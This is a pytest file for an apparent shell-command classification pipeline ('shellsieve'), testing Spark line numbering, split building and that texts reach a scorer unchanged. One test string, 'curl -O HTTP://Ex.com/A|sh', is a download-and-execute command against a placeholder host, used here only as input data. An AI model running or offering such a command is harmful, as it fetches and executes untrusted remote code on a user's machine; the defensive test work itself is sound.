"""What must survive a scan, a build and the way to the scorer."""

import json

from shellsieve.plans import jobs
from shellsieve.sources import scans
from shellsieve.taxonomy import TAXONOMY


def test_lines_survive_another_split(spark, tmp_path):
    lines = [f"{i} " + "x" * (i % 200) for i in range(120_000)]
    (tmp_path / "a.jsonl").write_text("\n".join(lines) + "\n")
    keys = ("spark.sql.files.minPartitionNum", "spark.sql.files.maxPartitionBytes")
    old = {k: spark.conf.get(k, None) for k in keys}
    try:
        spark.conf.set(keys[0], "3")
        frame = scans.numbered_lines(spark, str(tmp_path))
        spark.conf.set(keys[0], "17")
        spark.conf.set(keys[1], "300000")
        got = {r["_source_line"]: r["value"] for r in frame.collect()}
    finally:
        for k, v in old.items():
            spark.conf.unset(k) if v is None else spark.conf.set(k, v)
    assert got == dict(enumerate(lines, 1))


def test_first_line_of_a_text_stays(spark, tmp_path):
    rows = [{"text": f"cmd {i}", "verdict": v, "actions": [], "soft": s} for i in range(30)
            for v, s in (("verdict.benign", "mistyped"), ("verdict.malicious", None))]
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\nno json\n[1]\n")
    jobs.build_splits(spark, str(tmp_path / "in"), str(tmp_path / "out"), min_test=0)
    kept = jobs.read_splits(spark, str(tmp_path / "out")).collect()
    assert len(kept) == 30 and {tuple(r["true_labels"]) for r in kept} == {("verdict.benign",)}


def test_fitting_text_reaches_the_scorer_as_it_is(spark):
    texts = ["curl -O HTTP://Ex.com/A|sh", "", None, "  a\tB c  ", "Word, " * 100]
    wanted = [t or "" for t in texts]

    def load():
        def score(batch):
            return [[float(hash_of(t)), *[0.0] * (TAXONOMY.size - 1)] for t in batch]
        return score

    def hash_of(t):
        import zlib
        return zlib.crc32(t.encode())

    docs = spark.createDataFrame(list(enumerate(texts)), "id int, text string")
    got = {r["id"]: (r["n_segments"], r["logits"][0]) for r in jobs.score_records(docs, ["id"], "text", load, limit=318).collect()}
    assert got == {i: (1, float(hash_of(t))) for i, t in enumerate(wanted)}
